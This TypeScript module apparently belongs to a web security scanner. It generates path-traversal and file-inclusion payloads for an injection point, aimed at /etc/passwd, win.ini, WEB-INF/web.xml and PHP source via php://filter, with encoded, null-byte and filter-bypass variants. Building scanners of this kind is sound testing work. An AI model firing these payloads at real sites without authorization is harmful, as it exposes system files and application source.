import type { InjectionPoint } from '../../../evidence/parse/application/injection-point.ts';
import { firstOfEach } from '../../../evidence/parse/text/first-of-each.ts';
import { type KnownFile, PASSWD, SOURCE, WEB_XML, WIN_INI } from './known-files.ts';

export interface FilePath {
  readonly file: KnownFile;
  readonly value: string;
}

const UP = '../'.repeat(10);
const EXTENSION = /\.[a-z0-9]{1,5}$/i;

/** Values that name a known file, the most likely first. */
export function pathsFor(point: InjectionPoint, isThorough: boolean, isOfPhp = false): readonly FilePath[] {
  const { value } = point;
  const extension = EXTENSION.exec(value)?.[0] ?? '';
  const folder = value.includes('/') && !/^[a-z]+:/i.test(value) ? value.slice(0, value.lastIndexOf('/') + 1) : '';
  const passwd = [
    ...inFormOf(value),
    `${UP}etc/passwd`,
    '/etc/passwd',
    ...(folder === '' || folder === '/' ? [] : [`${folder}${UP}etc/passwd`]),
    `${'....//'.repeat(10)}etc/passwd`,
    'file:///etc/passwd',
    `${UP}etc/passwd\0${extension}`,
    `${'..%2f'.repeat(10)}etc%2fpasswd`,
    ...(isThorough ? rareForms(value, extension) : []),
  ];
  const windows = [
    `${'..\\'.repeat(10)}windows\\win.ini`,
    ...(isThorough
      ? [
          'C:\\windows\\win.ini',
          'file:///C:/windows/win.ini',
          `${UP}windows/win.ini`,
          `${UP}windows/win.ini\0${extension}`,
        ]
      : []),
  ];
  const java = [
    '/WEB-INF/web.xml',
    ...(isThorough || isJava(point)
      ? [
          'WEB-INF/web.xml',
          ...fromFolders(point),
          '../WEB-INF/web.xml',
          '../../WEB-INF/web.xml',
          '/../WEB-INF/web.xml',
          '\\WEB-INF\\web.xml',
          `${folder}../WEB-INF/web.xml`,
        ]
      : []),
  ];
  const all = [
    ...passwd.map((one) => ({ file: PASSWD, value: one })),
    ...(isOfPhp || isPhp(point) ? sources(point) : []),
    ...java.map((one) => ({ file: WEB_XML, value: one })),
    ...windows.map((one) => ({ file: WIN_INI, value: one })),
  ];
  return firstOfEach(all, (one) => one.value);
}

/** A path out of the folder that begins as the value of the site does: `/content.ini` becomes `/../…`, `file:` a URL of a file. */
function inFormOf(value: string): string[] {
  if (/^file:\/\//i.test(value)) return ['file:///etc/passwd'];
  const start = /^(?:\.?\/|\.?\\)/.exec(value)?.[0];
  if (start === undefined) return [];
  return start.endsWith('\\') ? [`${start}${'..\\'.repeat(10)}etc\\passwd`] : [`${start}${UP}etc/passwd`];
}

/** The descriptor from each folder between the page and the root: Java reads no path that leads beyond it. */
function fromFolders({ url, value }: InjectionPoint): string[] {
  const depth = Math.min(4, new URL(url).pathname.split('/').length - 2);
  const start = value.startsWith('/') ? '/' : '';
  return Array.from({ length: Math.max(1, depth) }, (_, i) => `${start}${'../'.repeat(i + 1)}WEB-INF/web.xml`);
}

/** For checks of the start or end of a path, parts that are added or removed, and separators that are replaced. */
function rareForms(value: string, extension: string): string[] {
  return [
    `${'..\\'.repeat(10)}etc\\passwd`,
    `\\${'..\\'.repeat(10)}etc\\passwd`,
    `${'%c0%ae%c0%ae/'.repeat(10)}etc/passwd`,
    `/${UP}etc/passwd`,
    `./${UP}etc/passwd`,
    `${'..././'.repeat(10)}etc/passwd`,
    `${'..%252f'.repeat(10)}etc%252fpasswd`,
    `/var/www/${UP}etc/passwd`,
    `/var/www/html/${UP}etc/passwd`,
    `file://localhost/etc/passwd`,
    `file:///etc/passwd?${extension}`,
    `file:///etc/passwd#${extension}`,
    ...(/^[\w.-]{1,60}$/.test(value) ? [`${value}/${UP}etc/passwd`] : []),
  ];
}

function isJava({ url }: InjectionPoint): boolean {
  return /\.(?:jsp|jspx|do|action|faces)\b/i.test(new URL(url).pathname);
}

function isPhp({ url, value }: InjectionPoint): boolean {
  return /\.php\b|\/$/i.test(new URL(url).pathname) || value.endsWith('.php');
}

/** The script itself, and what it is asked for, with and without the ending that it may append. */
function sources({ url, value }: InjectionPoint): FilePath[] {
  const { pathname } = new URL(url);
  const script = pathname.slice(pathname.lastIndexOf('/') + 1) || 'index.php';
  const names = [script, script.replace(/\.php$/, ''), ...(/^[\w./-]{1,60}$/.test(value) ? [value] : [])];
  return [...new Set(names)].map((name) => ({
    file: SOURCE,
    value: `php://filter/convert.base64-encode/resource=${name}`,
  }));
}

/** The same value for a file that does not exist. */
export function elsewhere({ file, value }: FilePath, token: string): string {
  return file === SOURCE ? value.replace(/resource=.*/, `resource=${token}`) : value.replace(file.name, token);
}

/** The same file in another form. */
export function inAnotherForm({ file, value }: FilePath): string {
  return file === PASSWD ? value.replace(/etc(\/|%2f|%252f)passwd/, 'etc$1.$1passwd') : value;
}
